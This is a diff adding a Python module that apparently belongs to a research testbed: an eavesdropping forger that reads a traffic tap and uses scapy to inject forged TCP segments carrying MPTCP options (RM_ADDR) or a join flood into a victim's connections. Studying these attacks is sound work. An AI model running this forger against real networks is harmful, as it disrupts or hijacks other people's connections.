@@ -1,0 +1,109 @@
+"""An eavesdropping forger that tries packet shapes one after another, run in an attacker
+host. It loads scapy once and answers one command per stdin line:
+
+    python -m experiments.forger --tap PCAP --victim ADDR ... --peer ADDR ...
+                                 --attacker ADDR [--removed-id N ...] [--seed N]
+    stdin:  ATTACK SHAPE        (an option attack of experiments.attacks, a shape of
+                                 experiments.shapes; join_flood takes no shape)
+    stdout: one JSON line per command: what it sent
+
+Before each command it reads the tap again and waits for a lull (attacks.eavesdrop), so
+every forgery carries the peer's latest sequence numbers and timestamps; it adds what its
+own earlier forgeries consumed (payload bytes, a FIN) to the sequence numbers it uses.
+Every forged packet has IP ID attacks.TAG.
+"""
+
+from __future__ import annotations
+
+import argparse
+import json
+import random
+import sys
+import time
+
+from experiments import attacks
+from experiments.shapes import PAYLOAD, SHAPES
+
+
+def forge(
+    attack: str,
+    shape: str,
+    k: attacks.Knowledge,
+    args,
+    rng: random.Random,
+    advance: dict,
+    now: float,
+) -> list:
+    """The packets of one command; ``advance``: sequence space our forgeries used."""
+    if attack == "join_flood":
+        port = k.server_port or args.port
+        sources = sorted({t[2] for t in k.last_from_peer}) or args.victim
+        targets = sorted({t[0] for t in k.last_from_peer}) or args.peer
+        return attacks.join_flood(k, sources, targets, port, rng)
+    option = attacks.option_for(attack, k, args.attacker, rng, tuple(args.removed_id))
+    out = []
+    for four, seen in k.last_from_peer.items():
+        base = attacks.segment_after(seen, option, now)
+        base["TCP"].seq = (base["TCP"].seq + advance.get(four, 0)) & 0xFFFFFFFF
+        out += SHAPES[shape](base, option)
+        advance[four] = advance.get(four, 0) + {"payload": len(PAYLOAD), "fin": 1}.get(shape, 0)
+    return out
+
+
+def main(argv: list[str] | None = None) -> int:
+    ap = argparse.ArgumentParser(
+        prog="python -m experiments.forger", description=__doc__.split("\n")[0]
+    )
+    ap.add_argument("--tap", required=True, help="pcap of the eavesdropped path")
+    ap.add_argument("--victim", action="append", required=True)
+    ap.add_argument("--peer", action="append", required=True)
+    ap.add_argument("--attacker", required=True)
+    ap.add_argument("--port", type=int, default=5201, help="the peer's listening port")
+    ap.add_argument(
+        "--removed-id",
+        type=int,
+        action="append",
+        default=[],
+        help="address IDs a forged RM_ADDR names (default: every ID in use)",
+    )
+    ap.add_argument("--seed", type=int, default=1)
+    args = ap.parse_args(argv)
+    args.removed_id = args.removed_id or list(attacks.REMOVED_IDS)
+    from scapy.sendrecv import send
+
+    rng, advance = random.Random(args.seed), {}
+    victim, peer = set(args.victim), set(args.peer)
+    print("ready", flush=True)
+    for line in sys.stdin:
+        words = line.split()
+        if not words:
+            continue
+        attack, shape = words[0], (words[1:] or ["plain"])[0]
+        if attack not in attacks.ATTACKS or shape not in SHAPES:
+            print(
+                json.dumps(
+                    {
+                        "error": f"unknown attack or shape: {line.strip()!r}; attacks "
+                        f"{', '.join(attacks.ATTACKS)}; shapes {', '.join(SHAPES)}"
+                    }
+                ),
+                flush=True,
+            )
+            continue
+        try:
+            k = attacks.eavesdrop(lambda: attacks.read_tap(args.tap), victim, peer)
+            packets = forge(attack, shape, k, args, rng, advance, time.time())
+        except (OSError, ValueError) as e:
+            print(json.dumps({"error": str(e)}), flush=True)
+            continue
+        if packets:
+            send(packets, verbose=False)
+        print(
+            json.dumps({"attack": attack, "shape": shape, "sent": len(packets), **k.summary()}),
+            flush=True,
+        )
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
